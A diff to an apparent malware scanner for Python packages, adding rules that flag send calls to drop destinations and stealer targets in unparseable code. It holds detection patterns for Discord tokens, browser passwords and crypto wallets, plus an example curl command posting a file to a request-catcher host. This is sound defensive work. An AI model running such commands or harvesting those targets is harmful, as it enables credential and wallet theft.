@@ -24,11 +24,11 @@ from dataclasses import dataclass, field
 from functools import lru_cache
 
 from douane.analysis import indicators as ind
-from douane.analysis.context import PyContext, const_str
-from douane.analysis.interface import Hit, Tag
+from douane.analysis.context import FileContext, PyContext, const_str
+from douane.analysis.interface import FileType, Hit, Tag
 from douane.analysis.process import HOLE, command_of, is_exec_call, loose_str
 from douane.analysis.pyapi import matches, tail
-from douane.analysis.registry import node_rule
+from douane.analysis.registry import file_rule, node_rule
 from douane.domain import Confidence, Family, Severity, Where
 
 # -- vocabulary ------------------------------------------------------------------------------
@@ -1087,9 +1087,11 @@ def credential_file_access(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
         candidates.append(
             node.func.value
         )  # Path.home().joinpath(".aws", "credentials").read_text()
+    if t in _MESSAGE_CALLS:
+        return  # a log line or message that mentions the file
     for arg in candidates:
         text = _path_text(arg, ctx)
-        if not text:
+        if not text or " " in text.strip():  # a sentence, not a path
             continue
         found = [sp for sp in ind.sensitive_paths(text) if sp.kind in _GENERAL_KINDS]
         if not found:
@@ -1098,6 +1100,11 @@ def credential_file_access(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
         sev = Severity.MEDIUM if sp.label in ("/etc/shadow", "macOS keychain") else None
         yield ctx.hit(node, f"`{name or t}` uses {sp.label} ({text[:60]})", severity=sev)
         return
+
+
+_MESSAGE_CALLS = frozenset({"debug", "info", "warning", "warn", "error", "exception", "critical", "log",
+                           "print", "echo", "secho", "pop", "get", "setdefault", "format", "add_argument",
+                           "Option", "option", "Field", "help", "append"})  # fmt: skip
 
 
 def _path_text(expr: ast.AST, ctx: PyContext, depth: int = 0) -> str | None:
@@ -1796,3 +1803,112 @@ def dns_exfiltration(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
                     node,
                     f"`{name}` runs a DNS lookup of a name built from command output under {m.group(3)}",
                 )
+
+
+# -- rules: code that does not parse (old Python 2, broken on purpose) and scripts -------------
+
+_TEXT_TYPES = (FileType.PYTHON, FileType.SHELL, FileType.WINDOWS_SCRIPT, FileType.JAVASCRIPT)
+_SEND_WORDS = re.compile(r"\b(post|put|urlopen|Request|request|curl|wget|Invoke-WebRequest|Invoke-RestMethod|"
+                         r"iwr|irm|fetch|XMLHttpRequest|axios|sendall|send_message|sendDocument|webhook|"
+                         r"DiscordWebhook|UploadFile|UploadString|UploadData)\b", re.IGNORECASE)  # fmt: skip
+
+
+def _text_drop_urls(ctx: FileContext) -> Iterator[tuple[int, str, str | None, str]]:
+    text = ctx.text
+    for m in ind.URL_RE.finditer(text):
+        url = m.group(0).rstrip(".,;:!?)]}'\"")
+        kind, host, fixed, _ = destination(url)
+        if fixed and kind in ind.DROP_KINDS:
+            yield m.start(), url, kind, host
+
+
+@file_rule(
+    "DOU514",
+    "drop_destination_in_unparsed_code",
+    family=Family.EXFILTRATION,
+    severity=Severity.MEDIUM,
+    confidence=Confidence.MEDIUM,
+    file_types=_TEXT_TYPES,
+    only_unparsed=True,
+    triggers=(b"://",),
+    tags=(Tag.NETWORK_SEND, Tag.FIXED_DESTINATION),
+)
+def drop_destination_in_unparsed_code(ctx: FileContext) -> Iterator[Hit]:
+    """What it does: in code the AST rules cannot read (Python that does not parse, such as
+    Python 2 or deliberately broken files, and shell, Windows and JavaScript files), flags a
+    line that sends (`post`, `urlopen`, `curl`, `Invoke-WebRequest`, `fetch`...) next to a
+    fixed drop destination: a webhook with its secret, a paste site, a tunnel or request
+    catcher, a mock-API or file host, dynamic DNS, a raw IP. HIGH for out-of-band hosts.
+
+    Why it matters: the same destinations DOU510 looks for, in the files it cannot see.
+    Old stealers are often Python 2, and scripts shipped in a package run with the same
+    rights as its code.
+
+    Example: `curl -X POST -d @/tmp/x https://fixture.m.pipedream.net` in `install.sh`.
+    """
+    for offset, url, kind, host in _text_drop_urls(ctx):
+        line = ctx.line_text(ctx.line_of(offset))
+        if not _SEND_WORDS.search(line) and kind not in ind.CALLBACK_KINDS:
+            continue
+        oob = any(host == s or host.endswith("." + s) for s in OOB_SUFFIXES)
+        word = _kind_word(Send(ast.Pass(), "", url, kind, host, True, True))
+        yield ctx.hit_at(offset, f"code that cannot be parsed sends to {word}",
+                         severity=Severity.HIGH if oob else None)  # fmt: skip
+        return
+
+
+_STEALER_TEXT = (
+    ("Discord token storage", re.compile(r"Local Storage[\\/]+leveldb|dQw4w9WgXcQ|\{24\}\\?\.\[.{0,8}\]\{6\}", re.I)),
+    ("browser saved passwords", re.compile(r"Login Data|logins\.json|key4\.db", re.I)),
+    ("browser master key", re.compile(r"encrypted_key|CryptUnprotectData")),
+    ("crypto wallet storage", re.compile(r"nkbihfbeogaeaoehlefnkodbefgpgknn|exodus\.wallet|Electrum[\\/]+wallets|wallet\.dat", re.I)),
+)  # fmt: skip
+
+
+@file_rule(
+    "DOU515",
+    "stealer_targets_in_unparsed_code",
+    family=Family.EXFILTRATION,
+    severity=Severity.HIGH,
+    confidence=Confidence.MEDIUM,
+    file_types=_TEXT_TYPES,
+    only_unparsed=True,
+    triggers=(
+        b"leveldb",
+        b"dQw4w9WgXcQ",
+        b"{24}",
+        b"Login Data",
+        b"logins.json",
+        b"key4.db",
+        b"encrypted_key",
+        b"CryptUnprotectData",
+        b"nkbihfbeogaeaoehlefnkodbefgpgknn",
+        b"exodus.wallet",
+        b"wallets",
+        b"wallet.dat",
+    ),  # fmt: skip
+    tags=(Tag.SECRET_READ,),
+)
+def stealer_targets_in_unparsed_code(ctx: FileContext) -> Iterator[Hit]:
+    """What it does: in code the AST rules cannot read (see DOU514), flags a file that names
+    two or more stealer targets: Discord token storage (leveldb, the token pattern), browser
+    saved passwords, the browser master key (`encrypted_key`, `CryptUnprotectData`), wallet
+    storage (MetaMask's extension id, `exodus.wallet`, `wallet.dat`).
+
+    Why it matters: DOU503-505 read the AST; this is their fallback for Python 2 stealers and
+    for scripts. One target alone can be a benign tool; several together are a stealer's
+    shopping list.
+
+    Example: a Python 2 file listing `Local Storage\\leveldb`, `Login Data` and
+    `CryptUnprotectData`.
+    """
+    text = ctx.text
+    found = []
+    for label, pattern in _STEALER_TEXT:
+        m = pattern.search(text)
+        if m:
+            found.append((m.start(), label))
+    if len(found) >= 2:
+        found.sort()
+        yield ctx.hit_at(found[0][0], "code that cannot be parsed names stealer targets: "
+                         + ", ".join(label for _, label in found))  # fmt: skip
